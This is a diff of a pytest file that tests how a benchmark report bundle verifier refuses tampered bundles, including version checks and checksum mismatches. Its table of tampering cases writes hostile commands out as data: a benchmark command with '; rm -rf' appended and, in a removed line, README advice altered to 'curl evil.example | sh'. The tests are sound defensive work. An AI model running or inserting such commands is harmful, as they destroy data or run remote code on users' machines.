@@ -5,10 +5,25 @@ from pathlib import Path
 import pytest
 
 from reports.errors import BundleError
+from reports.publishing import bundle
 from reports.publishing.bundle import verified
+from reports.publishing.crate import crate
 from reports.publishing.credits import Credits
-from reports.publishing.names import CRATE, PLAN, RECORD, SUMS, WHOLE
-from tests.reports.publishing.bundles import INSTALLED, PAGE, changed, files_of, small, summed, trusted, without, zipped
+from reports.publishing.names import CRATE, PLAN, RECORD, SUMS, WHOLE, is_page
+from reports.publishing.plan import BUNDLE, plan, probe
+from reports.publishing.sums import digest
+from tests.reports.publishing.bundles import (
+    INSTALLED,
+    PAGE,
+    changed,
+    files_of,
+    small,
+    source,
+    summed,
+    trusted,
+    without,
+    zipped,
+)
 from tests.reports.records import as_bytes
 
 
@@ -41,7 +56,7 @@ def test_a_file_that_only_the_checksums_know_is_refused() -> None:
     assert "figures/speedups.svg is missing" in complaint(zipped(without("figures/speedups.svg")))
 
 
-@pytest.mark.parametrize("name", [name for name in (*WHOLE, *PAGE) if name != SUMS])
+@pytest.mark.parametrize("name", sorted({*WHOLE, *PAGE} - {SUMS}))
 def test_a_file_that_is_not_as_its_checksum_says_is_refused(name: str) -> None:
     files = files_of()
     assert f"the checksum of {name} is wrong" in complaint(zipped({**files, name: files[name] + b" "}))
@@ -57,7 +72,7 @@ LIES = {
     "another seed": ("plan.json", b'"seed": 1', b'"seed": 2'),
     "another command": ("plan.json", b"benchmarks run", b"benchmarks run; rm -rf"),
     "another machine": ("probe.json", b'"usable_cpus": 2', b'"usable_cpus": 64'),
-    "another advice": ("README.txt", b"sha256sum -c", b"curl evil.example | sh; sha256sum -c"),
+    "another advice": ("README.txt", b"curl", b"rm"),
     "another CPU": ("ro-crate-metadata.json", b"Test CPU", b"Best CPU"),
     "another entity": ("ro-crate-metadata.json", b'"@graph": [', b'"@graph": [{"@id": "#x"},'),
     "another name beside the creator": ("ro-crate-metadata.json", b'"name": "Ada"', b'"name": "Ada", "email": "a@b.c"'),
@@ -68,7 +83,7 @@ LIES = {
 @pytest.mark.parametrize("lie", LIES)
 def test_what_does_not_follow_from_the_record_is_refused(lie: str) -> None:
     name, old, new = LIES[lie]
-    said = CRATE if name == "index.html" else name
+    said = CRATE if is_page(name) else name
     assert f"{said} is not what its record gives" in complaint(replaced(name, old, new))
 
 
@@ -117,6 +132,40 @@ def test_another_record_in_its_place_is_refused() -> None:
     assert PLAN in complaint(changed(record__json=as_bytes(small(seed=77))))
 
 
+def versioned(version: str) -> bytes:
+    """A bundle whose plan says another version, by which its description would have been written otherwise."""
+    plan = files_of()[PLAN].replace(b'"bundle": 1', f'"bundle": {version}'.encode())
+    return changed(plan__json=plan, probe__json=b'{"words": "of those days"}')
+
+
+def test_a_bundle_of_a_newer_version_asks_for_a_newer_crossover() -> None:
+    assert "by a newer version of Crossover: update Crossover" in complaint(versioned("2"))
+
+
+@pytest.mark.parametrize("version", ["0", "-1", "true", "[]", '"1"', "1.5"])
+def test_a_bundle_that_does_not_say_its_version_is_refused(version: str) -> None:
+    text = complaint(versioned(version))
+    assert "plan.json does not say by which version" in text or "is not what its record gives" in text
+
+
+def test_a_bundle_of_an_older_version_is_known_as_one_and_not_compared(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(bundle, "BUNDLE", 2)
+    found = trusted(versioned("1"))
+    assert found.is_older
+    assert found.source.record == as_bytes(small())
+
+
+def test_whoever_changes_what_is_written_raises_the_version() -> None:
+    """Else bundles that are published already would be refused: raise BUNDLE, then put the new digest here."""
+    of = source(small())
+    texts = (
+        plan(of.record, of.measurements),
+        probe(of.measurements),
+        crate(of.measurements, {"record.json": digest([b""]), "figures/a.svg": digest([b""])}, Credits("Ada", "MIT")),
+    )
+    assert (BUNDLE, digest(texts).sha256[:16]) == (1, "89dc9cfa02ad8e1d")
+
+
 def test_a_record_that_does_not_say_when_it_was_measured_cannot_be_described() -> None:
     with pytest.raises(BundleError, match="does not say when"):
         files_of(small(started="yesterday"))
@@ -141,5 +190,5 @@ def test_the_bundle_of_a_record_without_a_list_of_what_was_installed_is_one() ->
     content = small(installed={}, format=3)
     content["metadata"]["aiohttp_version"] = "3.14.5"
     found = trusted(zipped(files_of(content)))
-    assert b"aiohttp==3.14.5" in found.environment
+    assert set(found.hashes) == {("aiohttp", "3.14.5")}
     assert RECORD in found.files
